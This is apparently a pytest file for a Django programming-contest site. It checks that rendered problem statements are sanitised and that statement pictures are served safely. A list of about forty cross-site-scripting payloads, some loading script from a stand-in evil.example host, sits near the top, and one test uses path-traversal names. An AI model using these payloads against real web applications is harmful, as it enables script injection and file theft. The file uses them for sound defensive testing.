"""Statements of strangers: what is shown of them, with pictures, and that nothing in them runs."""

from __future__ import annotations

import html.parser
import re
from pathlib import Path

import pytest
from django.test import Client

from comparisons.actions.problems import import_problem_set
from comparisons.models import Problem, User
from comparisons.queries.statements import render
from tests.factories import make_user
from tests.judge.making import PLAIN, write_package

pytestmark = pytest.mark.django_db

#: The smallest picture there is, and one with a script.
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='a.gif' onload='alert(1)'>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<svg onload=alert(1)><script>alert(1)</script><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
    "<math><maction actiontype=\"statusline#http://e\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' onclick='alert(1)' style='position:fixed'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "![x](a.gif){onerror=alert(1)}",
    "$<img src=x onerror=alert(1)>$",
    "$\\href{javascript:alert(1)}{x}$ \\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}",
    "$\\text{<script>alert(1)</script>}$",
    "\\includegraphics{javascript:alert(1)} \\includegraphics[onerror=alert(1)]{x\" onerror=\"alert(1)}",
    "\\illustration{1}{x\" onerror=\"alert(1)}{<script>alert(1)</script>}",
    "\\begin{verbatim}</code></pre><script>alert(1)</script>\\end{verbatim}",
    "\\begin{rawhtml}<script>alert(1)</script>\\end{rawhtml} \\HCode{<script>alert(1)</script>}",
    "```{=html}\n<script>alert(1)</script>\n```",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<form action=/x><input name=a autofocus onfocus=alert(1)><button formaction=javascript:x>x</button></form>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;x'>",
    "<style>@import '//evil.example'; body { display: none }</style><p style='background:url(//evil.example)'>x</p>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div id=main class=dialog hx-get=/x hx-trigger=load data-on-click=x>x</div>",
    "<video src=//evil.example/x><audio src=x onerror=alert(1)><picture><source srcset=//evil.example/x></picture>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml <script>alert(1)</script>?>",
]  # fmt: skip
TAGS = re.compile(
    r"h[1-6]|m[a-z]+|semantics|none|[biusa]|[oud]l|li|d[td]|t(able|head|body|[rhd])|p|[bh]r|pre|blockquote|code|em|strong|"
    r"su[bp]|span|div|figure|figcaption|img"
)


class Seen(html.parser.HTMLParser):
    """Everything in HTML that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if not TAGS.fullmatch(tag):
            self.odd.append(tag)
        for name, value in attrs:
            if name.startswith(("on", "hx-", "data-", "style", "xlink")) or name in ("id", "srcset", "srcdoc"):
                self.odd.append(name)
            elif name in ("src", "href") and value != "/p?a.gif" and not re.match("https?://", value or ""):
                self.odd.append(f"{name}={value}")


@pytest.mark.parametrize("kind", ["markdown", "latex", "html", "org"])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_statement_runs(text: str, kind: str) -> None:
    seen = Seen()
    seen.feed(render(f"Before.\n\n{text}\n\nAfter.", kind, (("a.gif", "/p?a.gif"),)))
    assert seen.odd == []


@pytest.fixture
def user(client: Client) -> User:
    user = make_user()
    client.force_login(user)
    return user


def imported(user: User, folder: Path, text: str, name: str = "statement/problem.en.md") -> Problem:
    """A problem whose statement this is, with pictures beside it and one that is no business of it."""
    path = write_package(folder / "double", {**PLAIN, name: text, "statement/b.svg": SVG, "other.gif": "x"})
    (path / "statement/deep").mkdir()
    for picture in ("a.gif", "deep/a b.gif", "unused.gif"):
        (path / "statement" / picture).write_bytes(GIF)
    import_problem_set(user, path, slug="doubles", measure=False)
    return Problem.objects.get()


TEXTS = {
    "markdown": ("statement/problem.en.md", "![one](a.gif)\n\n![two](deep/a%20b.gif)\n\n![three](b.svg)\n"),
    "latex": ("statement/problem.en.tex",
              "\\includegraphics[width=3cm]{a}\n\n\\illustration{0.4}{deep/a b.gif}{T}\n\n\\includegraphics{b.svg}\n"),
    "html": ("statement/problem.en.html",
             "<p><img src='a.gif'><IMG alt=x src=\"deep/a%20b.gif\"><img src=b.svg></p>"),
}  # fmt: skip


@pytest.mark.parametrize("kind", TEXTS)
def test_pictures_of_the_package_are_shown(client: Client, user: User, tmp_path: Path, kind: str) -> None:
    name, text = TEXTS[kind]
    problem = imported(user, tmp_path, text, name)
    page = f"/problem-sets/doubles/{problem.slug}/"
    shown = re.findall(r'<img src="([^"]*)"', client.get(page).context["statement_html"])
    assert shown == [f"{page}picture?name=statement%2F{name}" for name in ("a.gif", "deep%2Fa+b.gif", "b.svg")]
    answers = [client.get(address) for address in shown]
    assert [(answer.content, answer["Content-Type"]) for answer in answers] == [
        (GIF, "image/gif"), (GIF, "image/gif"), (SVG.encode(), "image/svg+xml"),
    ]  # fmt: skip


def test_svg_opened_as_a_page_runs_nothing(client: Client, user: User, tmp_path: Path) -> None:
    problem = imported(user, tmp_path, "![x](b.svg)")
    answer = client.get(f"/problem-sets/doubles/{problem.slug}/picture", {"name": "statement/b.svg"})
    assert answer["Content-Security-Policy"] == "default-src 'none'; style-src 'unsafe-inline'; sandbox"
    assert answer["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "name", ["", "statement/unused.gif", "other.gif", "statement/problem.en.md", "data/secret/1.ans"]
)
def test_only_pictures_of_the_statement_are_given(client: Client, user: User, tmp_path: Path, name: str) -> None:
    problem = imported(
        user, tmp_path, "![x](a.gif) ![y](../other.gif) ![z](/etc/hostname.gif) ![t](../data/secret/1.ans)"
    )
    path = f"/problem-sets/doubles/{problem.slug}/"
    assert client.get(f"{path}picture", {"name": name}).status_code == 404
    assert client.get(path).context["statement_html"].count("[a picture that the package does not hold]") == 3


def test_formulas_of_polygons_html_are_formulas() -> None:
    assert render("<p>where $$$a$$$ is</p>", "html") == (
        '<p>where <math display="inline"><semantics><mi>a</mi></semantics></math> is</p>\n'
    )


def test_headings_of_the_italian_style_are_headings() -> None:
    text = "\\Constraints\n\\begin{itemize}\n\\item $N \\le \\constraints{MAX}$\n\\end{itemize}\n\\Scoring\nAll.\n"
    assert re.findall(r"<h2>(.*?)</h2>", render(text, "latex")) == ["Constraints", "Scoring"]
    assert "MAX" in re.sub("<[^>]*>", "", render(text, "latex"))
